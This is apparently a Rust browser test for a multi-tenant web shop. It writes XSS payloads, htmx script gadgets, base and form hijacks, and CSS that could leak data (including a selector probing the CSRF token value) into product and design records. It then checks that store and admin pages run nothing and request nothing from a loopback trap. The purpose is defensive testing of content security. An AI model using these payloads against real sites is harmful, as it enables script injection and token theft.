//! Threats D1, D4 and D6, where every cleaner has failed: markup and CSS that
//! were written into the database by hand stand in pages that run none of it
//! and load nothing from elsewhere.

use std::sync::{Arc, Mutex};

use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;

use crate::driver::Browser;
use crate::support::World;
use crate::support::template::PASSWORD;

/// What was asked of the trap.
type Caught = Arc<Mutex<Vec<String>>>;

/// Where everything hostile leads. Keeps what is asked of it. A connection on
/// which nothing is asked is none: Chromium opens one ahead of what the policy
/// then forbids.
async fn trap() -> (String, Caught) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("loopback has a free port");
    let origin = format!("http://{}", listener.local_addr().expect("a bound socket has an address"));
    let caught = Caught::default();
    let kept = Arc::clone(&caught);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let kept = Arc::clone(&kept);
            tokio::spawn(async move {
                let mut request = [0; 512];
                let length = stream.read(&mut request).await.unwrap_or(0);
                let line = String::from_utf8_lossy(&request[..length]).lines().next().map(str::to_owned);
                kept.lock().expect("no test panics with it").extend(line);
            });
        }
    });
    (origin, caught)
}

fn markup(trap: &str) -> String {
    [
        "<script>window.hostile = 1</script>".to_owned(),
        format!("<script src=\"{trap}/a.js\"></script>"),
        "<img src=\"/nothing\" onerror=\"window.hostile = 1\">".to_owned(),
        format!("<img src=\"{trap}/b.png\"><iframe src=\"{trap}/c\"></iframe><link rel=\"stylesheet\" href=\"{trap}/d.css\">"),
        format!("<div id=\"gadget\" hx-get=\"{trap}/e\" hx-trigger=\"load\">gadget</div>"),
        "<div hx-get=\"/cart/badge\" hx-trigger=\"load[window.hostile=1]\"></div>".to_owned(),
        "<div hx-on::load=\"window.hostile = 1\" hx-on:click=\"window.hostile = 1\" data-hx-on--load=\"window.hostile = 1\"></div>"
            .to_owned(),
        "<div hx-get=\"/cart/badge\" hx-trigger=\"load\" hx-vals=\"js:{a: window.hostile = 1}\"></div>".to_owned(),
        "<svg onload=\"window.hostile = 1\"><a href=\"javascript:window.hostile = 1\"><text>x</text></a></svg>".to_owned(),
        format!("<base href=\"{trap}/\"><form id=\"trap-form\" action=\"{trap}/f\"><button>x</button></form>"),
    ]
    .concat()
}

fn style(trap: &str) -> String {
    format!(
        "@import url({trap}/g.css); @font-face {{ font-family: x; src: url({trap}/h.woff2) }} \
         body {{ background: url({trap}/i.png); font-family: x }} input[name=csrf][value^=a], input {{ background: url({trap}/j.png) }}"
    )
}

#[actix_web::test]
async fn what_got_past_every_cleaner_runs_and_loads_nothing() {
    let world = World::start().await;
    let store = world.shopper("kopi").origin();
    let (trap, caught) = trap().await;
    let css = serde_json::json!({ "css": { "source": style(&trap), "cleaned": style(&trap) } }).to_string().replace('\'', "''");
    let sql = format!(
        "UPDATE products SET description_html = '{}', name = name || '<img src=x onerror=window.hostile=1>' WHERE slug = 'single';
         INSERT INTO settings (section, value) VALUES ('design', '{css}') ON CONFLICT (section) DO UPDATE SET value = settings.value || excluded.value",
        markup(&trap).replace('\'', "''")
    );
    world.tenant_rows("kopi", &sql).await;
    world.app.db.changes().note_everything();
    let browser = Browser::open().await;

    browser.goto(&format!("{store}/p/single")).await;
    // The gadgets are in the page, and so is htmx; what stops them is what is tested.
    browser.finds("the gadgets", "return window.htmx && document.querySelector('#gadget[hx-get]') !== null").await;
    browser.finds("the merchant's CSS", "return document.querySelectorAll('link[href^=\"/theme/\"]').length === 2").await;
    harmless(&browser, &caught).await;
    browser.click("#trap-form button").await;
    harmless(&browser, &caught).await;

    for path in ["/", "/c/utama", "/search?q=gayo", "/cart", "/checkout", "/account/sign-in"] {
        browser.goto(&format!("{store}{path}")).await;
        harmless(&browser, &caught).await;
    }
    browser.goto(&format!("{store}/admin/sign-in")).await;
    browser.fill("[name=email]", "owner@kopi.test").await;
    browser.fill("[name=password]", PASSWORD).await;
    browser.click("form[action='/admin/sign-in'] button").await;
    browser.is_at("/admin").await;
    let product = format!("/admin/products/{}", world.seeded("kopi").id(101));
    for path in ["/admin/products", &product, "/admin/design"] {
        browser.goto(&format!("{store}{path}")).await;
        harmless(&browser, &caught).await;
    }
    browser.close().await;
}

/// Gives the page the time of twenty frames, then asks what happened.
async fn harmless(browser: &Browser, caught: &Caught) {
    browser
        .finds(
            "twenty frames",
            "if (document.readyState !== 'complete') return null;
             if (window.frames20 === undefined) { window.frames20 = 0; const next = () => { window.frames20 += 1; requestAnimationFrame(next) }; next() }
             return window.frames20 >= 20",
        )
        .await;
    browser.finds("that nothing ran", "return window.hostile === undefined").await;
    let asked = caught.lock().expect("no test panics with it").clone();
    assert!(asked.is_empty(), "the page asked somebody else: {asked:?}");
}
